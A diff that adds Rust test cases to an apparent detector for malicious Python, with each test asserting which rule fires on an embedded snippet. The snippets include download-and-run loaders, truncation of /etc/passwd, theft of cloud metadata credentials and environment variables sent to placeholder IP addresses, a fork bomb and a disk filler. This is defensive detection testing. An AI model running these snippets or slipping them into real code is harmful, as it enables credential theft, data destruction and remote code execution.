@@ -223,3 +223,102 @@ fn a_socket_pair_is_not_the_network() {
     silent("CRD305", pair);
     level(Level::Low, pair);
 }
+
+#[test]
+fn downloads_read_in_chunks_or_unpacked_into_folders_are_followed() {
+    // `iter(lambda: resp.read(n), b"")` gives the response's chunks; written to a file
+    // that is then started, they are a download run.
+    fires(
+        "CRD102",
+        "import subprocess, tempfile, urllib.request\ndef download(target):\n    with urllib.request.urlopen('http://203.0.113.8/u') as resp, open(target, 'wb') as out:\n        for chunk in iter(lambda: resp.read(65536), b''):\n            out.write(chunk)\nfd, path = tempfile.mkstemp(prefix='.upd')\ndownload(path)\nsubprocess.Popen([path])\n",
+    );
+    // An archive unpacked into `mkdtemp()` and run with `runpy.run_path(dir)`, or into a
+    // cache folder whose top folder goes on `sys.path` and is imported.
+    fires(
+        "CRD102",
+        "import io, runpy, tempfile, urllib.request, zipfile\nblob = io.BytesIO(urllib.request.urlopen('http://x.example/a.zip').read())\nwhere = tempfile.mkdtemp(prefix='build-')\nwith zipfile.ZipFile(blob) as zf:\n    zf.extractall(where)\nrunpy.run_path(where, run_name='__main__')\n",
+    );
+    fires(
+        "CRD102",
+        "import io, os, sys, tarfile, urllib.request, importlib\nCACHE = os.path.join(os.path.expanduser('~'), '.cache', 'vendor')\ndata = io.BytesIO(urllib.request.urlopen('https://x.example/t.tar.gz').read())\nwith tarfile.open(fileobj=data, mode='r:gz') as tf:\n    tf.extractall(CACHE)\n    top = tf.getnames()[0].split('/')[0]\nsys.path.insert(0, os.path.join(CACHE, top))\nimportlib.import_module('toolbelt')\n",
+    );
+    // A dataset unpacked into a temporary folder and read is only a download.
+    let dataset = "import io, tempfile, urllib.request, zipfile, glob\nblob = io.BytesIO(urllib.request.urlopen('https://example.com/d.zip').read())\nwhere = tempfile.mkdtemp()\nzipfile.ZipFile(blob).extractall(where)\nfor name in glob.glob(where + '/*.csv'):\n    print(open(name).read()[:80])\n";
+    silent("CRD102", dataset);
+    level(Level::Medium, dataset);
+}
+
+#[test]
+fn system_files_emptied_through_a_handle_are_destroyed() {
+    // `fh.truncate(0)` of `/etc/passwd` opened for update destroys it.
+    fires(
+        "CRD104",
+        "with open('/etc/passwd', 'r+b') as fh:\n    fh.write(b'\\x00' * 64)\n    fh.truncate(0)\n",
+    );
+    // Truncating the program's own log is housekeeping.
+    level(
+        Level::Low,
+        "with open('app.log', 'r+') as fh:\n    fh.truncate(0)\n",
+    );
+}
+
+#[test]
+fn cloud_instance_credentials_are_secrets() {
+    // Asking the metadata service for the instance's role credentials reads them; sending
+    // them elsewhere is exfiltration.
+    let relay = "import json, urllib.request\nBASE = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nrole = urllib.request.urlopen(BASE).read().decode()\ncreds = urllib.request.urlopen(BASE + role).read()\nurllib.request.urlopen('http://203.0.113.20/c', data=creds)\n";
+    fires("CRD205", relay);
+    fires("CRD109", relay);
+    // The instance's region, from the same service, is no secret.
+    silent(
+        "CRD205",
+        "import urllib.request\nprint(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region').read())\n",
+    );
+}
+
+#[test]
+fn iterators_and_objects_that_never_end_loops() {
+    // `takewhile(lambda _: True, it)` stops nothing: an iterator whose `__next__` forks.
+    fires(
+        "CRD111",
+        "import os, itertools\nclass Pool:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        return os.fork()\nfor _ in itertools.takewhile(lambda _: True, Pool()):\n    pass\n",
+    );
+    // A predicate that can fail bounds the loop.
+    silent(
+        "CRD111",
+        "import itertools, multiprocessing\ndef work(i):\n    return i\nfor i in itertools.takewhile(lambda i: i < 5, itertools.count()):\n    multiprocessing.Process(target=work, args=(i,)).start()\n",
+    );
+    // `while sink:` of an object with no `__bool__` or `__len__` is always true; its
+    // `__iadd__` appends a megabyte to a file on every pass.
+    fires(
+        "CRD112",
+        "import os\nBLOCK = os.urandom(1 << 20)\nclass Sink:\n    def __init__(self):\n        self.fh = open('/tmp/.warm', 'ab')\n    def __iadd__(self, block):\n        self.fh.write(block)\n        return self\nsink = Sink()\nwhile sink:\n    sink += BLOCK\n",
+    );
+    // Walking a linked list rebinds the name, so the loop ends with the list.
+    silent(
+        "CRD111",
+        "import multiprocessing\nclass Job:\n    def __init__(self, n, nxt=None):\n        self.n, self.next = n, nxt\ndef run(n):\n    print(n)\njob = Job(1, Job(2))\nwhile job:\n    multiprocessing.Process(target=run, args=(job.n,)).start()\n    job = job.next\n",
+    );
+}
+
+#[test]
+fn generators_sent_secrets_yield_them() {
+    // A filter generator fed `os.environ.items()` through `send` yields what it is sent.
+    fires(
+        "CRD109",
+        "import os, socket\ndef collector():\n    found = {}\n    while True:\n        item = yield found\n        if item:\n            found[item[0]] = item[1]\ngen = collector()\nnext(gen)\nfor pair in os.environ.items():\n    result = gen.send(pair)\nsocket.create_connection(('203.0.113.5', 443)).sendall(str(result).encode())\n",
+    );
+}
+
+#[test]
+fn the_class_of_an_instance_is_followed() {
+    // `type(self)._engine` and `self.__class__._engine` are the class's attribute.
+    fires(
+        "CRD209",
+        "import builtins\nclass Probe:\n    _engine = getattr(builtins, 'ev' + 'al')\n    def run(self, code):\n        return type(self)._engine(code)\nProbe().run(\"__import__('subprocess').check_output(['id'])\")\n",
+    );
+    fires(
+        "CRD209",
+        "class Probe:\n    _engine = eval\n    def run(self, code):\n        return self.__class__._engine(code)\nProbe().run(\"__import__('os').system('id')\")\n",
+    );
+}
